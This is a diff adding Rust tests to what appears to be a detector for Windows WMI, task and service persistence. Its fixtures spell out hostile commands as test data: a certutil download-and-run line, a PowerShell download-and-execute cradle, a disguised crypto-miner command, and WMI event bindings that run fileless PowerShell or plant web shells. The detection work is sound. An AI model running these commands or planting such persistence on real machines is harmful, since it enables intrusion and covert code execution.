@@ -420,3 +420,119 @@ fn a_task_that_the_scheduler_hides_is_a_finding() {
     let hidden = assess(&records_of([task(Some(false))]));
     assert_eq!((hidden.findings[0].severity, hidden.findings[0].action), (Severity::High, Action::Review));
 }
+
+#[test]
+fn what_hangs_on_something_missing_is_still_judged() {
+    let query = "SELECT * FROM __InstanceModificationEvent WITHIN 5600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'";
+    let mut objects = stock();
+    objects[0] = filter("SCM Event Log Filter", query);
+    objects.push(binding("SCM Event Log Filter", "CommandLineEventConsumer", "Gone"));
+    let assessment = assess(&complete(evidence_of(objects)));
+    assert_ne!(assessment.verdict, Verdict::Clean, "{:#?}", assessment.findings);
+    let text = serde_json::to_string(&assessment.findings).unwrap();
+    assert!(text.contains("WITHIN 5600"), "the query is shown");
+}
+
+#[test]
+fn a_name_known_from_hearsay_makes_no_impostor() {
+    let assessment = assess(&machine([
+        filter("logon", "select * from Win32_LogonSession"),
+        command("McAfee Updater", r#""C:\Program Files\McAfee\upd.exe""#),
+        binding("logon", "CommandLineEventConsumer", "McAfee Updater"),
+    ]));
+    assert_eq!(assessment.verdict, Verdict::Suspicious);
+}
+
+#[test]
+fn habits_of_administrators_need_a_look_in_a_consumer_and_none_in_a_task() {
+    let line = r#"powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File "C:\Scripts\backup.ps1""#;
+    let consumer = assess(&machine([
+        filter("usb", "select * from Win32_VolumeChangeEvent"),
+        command("backup", line),
+        binding("usb", "CommandLineEventConsumer", "backup"),
+    ]));
+    assert_eq!((consumer.verdict, consumer.findings[0].action), (Verdict::Suspicious, Action::Review));
+    assert!(assess(&records_of([entry(AutostartKind::Task, r"\Backup", line)])).findings.is_empty());
+}
+
+#[test]
+fn a_download_by_a_tool_of_windows_in_a_task_needs_a_look() {
+    let line = r"cmd.exe /c certutil -urlcache -f http://192.0.2.7/x.exe %TEMP%\x.exe & start %TEMP%\x.exe";
+    let assessment = assess(&records_of([entry(AutostartKind::Task, r"\Update", line)]));
+    assert_eq!(assessment.verdict, Verdict::Suspicious, "{:?}", assessment.findings);
+}
+
+#[test]
+fn a_disguised_miner_is_nobodys_wish() {
+    let line = r"C:\Windows\Fonts\svchost.exe -o stratum+tcp://pool.example.org:3333 -u wallet -p x --donate-level 1";
+    let assessment = assess(&records_of([entry(AutostartKind::Service, "Update", line)]));
+    assert_eq!((assessment.verdict, assessment.findings[0].action), (Verdict::Infected, Action::Remove));
+}
+
+#[test]
+fn a_log_consumer_that_plants_code_is_no_log() {
+    let planted = |file: &str| {
+        let consumer =
+            object("LogFileEventConsumer", &[("Name", "c"), ("Filename", file), ("Text", "<%x%>")]);
+        let binding = binding("f", "LogFileEventConsumer", "c");
+        assess(&machine([filter("f", "select * from Win32_VolumeChangeEvent"), consumer, binding])).verdict
+    };
+    assert_eq!(planted(r"C:\inetpub\wwwroot\x.aspx. "), Verdict::Infected);
+    assert_eq!(
+        planted(r"C:\Users\a\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\x"),
+        Verdict::Infected
+    );
+    assert_eq!(planted(r"C:\data\x.dat"), Verdict::Suspicious);
+    assert_eq!(planted(r"C:\logs\usb.log"), Verdict::Clean);
+}
+
+#[test]
+fn a_store_in_pieces_in_qualifiers_or_in_an_instance_is_a_store() {
+    let class = |properties: Vec<ClassProperty>, qualifiers: Vec<(String, evidence::Value)>| {
+        let class = WmiClass {
+            name: "Win32_Updater".into(),
+            namespace: Some(r"root\default".into()),
+            properties,
+            qualifiers,
+            ..WmiClass::default()
+        };
+        assess(&records_of([RecordData::WmiClass(class)])).verdict
+    };
+    let piece = |at: usize, length: usize| ClassProperty {
+        name: format!("p{at}"),
+        cim_type: "string".into(),
+        default: Some("QUJD".repeat(length / 4).into()),
+    };
+    assert_eq!(class((0..50).map(|at| piece(at, 960)).collect(), Vec::new()), Verdict::Infected);
+    let qualifier = ("Description".to_owned(), "QUJD".repeat(2000).into());
+    assert_eq!(class(Vec::new(), vec![qualifier]), Verdict::Infected);
+    let command = ClassProperty {
+        default: Some(
+            "powershell -nop -w hidden -c iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/')"
+                .into(),
+        ),
+        ..piece(0, 0)
+    };
+    assert_eq!(class(vec![command], Vec::new()), Verdict::Infected);
+    let instance = object("Win32_Svc", &[("Name", "x"), ("mon", &"QUJD".repeat(2000))]);
+    assert_eq!(assess(&evidence_of([instance])).verdict, Verdict::Suspicious);
+}
+
+#[test]
+fn a_learned_baseline_does_not_pass_what_a_family_is_known_by() {
+    let infected = machine([
+        filter(
+            "SCM Event8 Log Filter",
+            "SELECT * FROM __InstanceModificationEvent WITHIN 5600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'",
+        ),
+        command(
+            "SCM Event8 Log Consumer",
+            r"powershell -w hidden -c $funs = ([WmiClass] 'root\default:Win32_Services').Properties['funs'].Value; iex $funs",
+        ),
+        binding("SCM Event8 Log Filter", "CommandLineEventConsumer", "SCM Event8 Log Consumer"),
+    ]);
+    assert_eq!(assess(&infected).findings[0].severity, Severity::Critical);
+    let learned =
+        Intel::builtin().clone().with_baseline(intel::learn(std::slice::from_ref(&infected), "wrong"));
+    assert_eq!(crate::assess(&infected, &learned).verdict, Verdict::Infected);
+}
